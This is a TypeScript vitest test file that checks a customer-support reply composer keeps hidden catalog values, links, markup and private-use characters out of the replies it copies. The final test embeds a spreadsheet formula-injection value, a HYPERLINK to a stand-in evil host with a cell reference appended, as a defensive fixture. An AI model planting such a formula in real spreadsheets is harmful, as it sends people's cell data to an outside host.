import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { HOSTILE_ERROR, LINKS_AND_MARKUP, PASSED_NEUTRALISED } from '../text/hostile-text.test-support'
import { situationOf, type ReplySubject } from './advise'
import { composeReply, itemParagraph, type ComposeOptions } from './compose-reply'
import { SITUATIONS } from './situations'
import type { TemplateOverrides } from './templates'
import { NOW, known, ok, replyItem } from './reply-items.test-support'

/**
 * What a reply takes from the catalog: an item's values only where a template asked for them
 * (R5-7), and never hidden, linked, marked-up or credentialed (R5-8).
 */

const SECRET = 'internal note: fraud review #4411, jane.doe@example.com'
const OPTIONS: ComposeOptions = { language: 'en', now: NOW, catalogTimeZone: null }

const subject = (name: string, error: string | null = null, id = 1042): ReplySubject => ({
  kind: 'item',
  item: replyItem(
    known(error ? 'WAITING_FOR_SEND' : 'TRADE_ACCEPTED'),
    {
      name: ok(name),
      error_message: ok(error),
    },
    id,
  ),
})

/** Every situation's box saying the item's name and its error. */
const SAYING_ERRORS: TemplateOverrides = Object.fromEntries(
  SITUATIONS.map((situation) => [situation.id, '{name} (ID {id}): {error}']),
)

/** The private-use tokens the composer held values with before R5-7, for the first values. */
const OLD_TOKENS = Array.from({ length: 12 }, (_, index) => `\ue000${index}\ue001`).join(' ')

describe('R5-7: a value enters a reply only through its placeholder', () => {
  it('a team greeting holding the composer’s old tokens pulls no error, name or customer into the reply', () => {
    const text = composeReply([subject('AK-47 | Redline', SECRET), subject('Glove Case', SECRET, 7)], {
      ...OPTIONS,
      customerName: 'Ana',
      shared: { greeting: `Hello ${OLD_TOKENS},`, closing: `Regards ${OLD_TOKENS}` },
    }).text
    expect(text).not.toContain('fraud review')
    expect(text).not.toContain('jane.doe')
    expect(text.split('\n\n')[0]).toBe(`Hello ${OLD_TOKENS.replace(/\p{Co}/gu, '')},`)
    expect(text).not.toMatch(/\p{Co}/u)
  })

  it('so does a situation box of the pane’s paragraph', () => {
    const held = situationOf(subject('AK-47 | Redline', SECRET), OPTIONS)
    const paragraph = itemParagraph(held, {
      ...OPTIONS,
      templates: Object.fromEntries(SITUATIONS.map((situation) => [situation.id, `Item {id} ${OLD_TOKENS}`])),
    })
    expect(paragraph).not.toContain('fraud review')
    expect(paragraph).toContain('Item 1042')
  })

  it('whatever a greeting holds, the error reaches the reply only when a box asks for {error}', () => {
    const piece = fc.constantFrom(
      '\ue000',
      '\ue001',
      '0',
      '1',
      '2',
      '3',
      '12',
      'Hi',
      ' ',
      ',',
      '{',
      '}',
      'id',
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 16 }), (pieces) => {
        const greeting = pieces.join('')
        const text = composeReply([subject('AK-47 | Redline', SECRET)], {
          ...OPTIONS,
          shared: { greeting },
        }).text
        expect(text).not.toContain('fraud review')
        expect(text).not.toMatch(/\p{Co}/u)
      }),
      { numRuns: 500 },
    )
    const asked = composeReply([subject('AK-47 | Redline', SECRET)], { ...OPTIONS, templates: SAYING_ERRORS })
    expect(asked.text).toContain('fraud review #4411')
  })
})

describe('R5-8: catalog text in Copy reply', () => {
  it.each(LINKS_AND_MARKUP)('a name %j is said inert', (name, inert) => {
    const text = composeReply([subject(name)], OPTIONS).text
    expect(text).toContain(inert)
    if (name !== inert) expect(text).not.toContain(name)
  })

  it.each(LINKS_AND_MARKUP)('an error %j is said inert where a box asks for it', (error, inert) => {
    const text = composeReply([subject('Glove Case', error)], { ...OPTIONS, templates: SAYING_ERRORS }).text
    expect(text).toContain(inert)
  })

  it.each(Object.entries(PASSED_NEUTRALISED))('drops a %s from a name and an error', (_what, char) => {
    const text = composeReply([subject(`AK-47 ${char}| Red${char}line`, `Trade ${char}declined`)], {
      ...OPTIONS,
      templates: SAYING_ERRORS,
    }).text
    expect(text).toContain('AK-47 | Redline (ID 1042): Trade declined')
    expect(text).not.toContain(char)
  })

  it('a formula in an error stays text in a reply: it is only a spreadsheet’s concern', () => {
    const text = composeReply([subject('Glove Case', HOSTILE_ERROR)], {
      ...OPTIONS,
      templates: SAYING_ERRORS,
    })
    expect(text.text).toContain('=HYPERLINK("https[:]//evil[.]example/?"&A1,"Refund")')
  })
})
